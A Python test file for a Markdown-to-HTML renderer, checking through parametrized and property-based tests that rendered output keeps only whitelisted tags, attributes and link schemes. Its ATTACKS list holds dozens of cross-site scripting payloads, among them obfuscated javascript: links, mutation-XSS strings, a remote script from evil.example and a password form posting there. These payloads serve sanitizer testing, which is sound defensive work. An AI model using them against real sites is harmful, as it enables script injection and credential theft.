"""Markdown that somebody typed becomes HTML that can do nothing."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from advisor.guide.render import render, render_page

TAGS = {"a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"}
TAGS |= {"strong", "ul", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"href", "title", "rel", "class", "align", "start", "tabindex", "role", "aria-label"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div onclick=alert(1)\n>x</div>",
    "<style>body { display: none }</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](http://evil.example/p.png"onerror="alert(1))',
    '[x](http://evil.example "a\\" onmouseover=\\"alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '```py" onclick="alert(1)\nx\n```',
    "``` { .x onclick=alert(1) #main }\nx\n```",
    "# heading {: onclick=alert(1) #main }",
    "| a |\n|:-|\n| <script>alert(1)</script> |",
    "\x02wzxhzdk:0\x03",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
]


class Seen(HTMLParser):
    """Every tag and attribute of some HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        address = attributes.get("href") or ""
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), address


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "> - {}", "**{}**", "[{}](http://a.example)"])
def test_attacks_come_out_harmless(attack: str, around: str):
    assert_harmless(render(around.format(attack)))


MARKS = ["<", ">", '"', "'", "[", "](", ")", "`", "```", "\n", "\n\n", "    ", "&#x6a;", "|-|", "{", ":"]
PIECES = st.sampled_from(ATTACKS + MARKS)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_whatever_is_typed_comes_out_harmless(text: str):
    assert_harmless(render(text))


def test_html_is_shown_as_the_text_it_was():
    assert render("we use <gpu> nodes") == "<p>we use &lt;gpu&gt; nodes</p>"


def test_headings_of_a_rationale_stand_below_those_of_its_page_and_have_no_ids():
    assert render("# Why\n\n## How") == "<h3>Why</h3>\n<h4>How</h4>"


def test_links_reveal_nothing_to_the_other_site():
    assert render("[x](https://example.org)") == (
        '<p><a href="https://example.org" rel="noopener noreferrer nofollow">x</a></p>'
    )


def test_tables_align_without_a_style_and_can_be_scrolled_with_the_keyboard():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html and "style=" not in html
    assert '<div class="table-wrap" tabindex="0"' in html


def test_code_keeps_its_language():
    assert '<pre tabindex="0"><code class="language-bash">ls' in render("```bash\nls\n```")


@pytest.mark.parametrize("text", ["- " * 3000 + "x", ">" * 5000, "[" * 20_000, "![[" * 7000, "[a](" * 5000])
def test_text_made_to_be_slow_is_shown_soon(text: str):
    start = time.monotonic()
    assert_harmless(render(text))
    assert time.monotonic() - start < 3


def test_headings_of_a_page_link_to_themselves():
    page = render_page("## Setup & more\n\n### Own {#own}")
    assert [(heading.level, heading.id, heading.text) for heading in page.headings] == [
        (2, "setup-more", "Setup & more"),
        (3, "own", "Own"),
    ]
    assert '<h3 id="own"><a class="toclink" href="#own"' in page.html
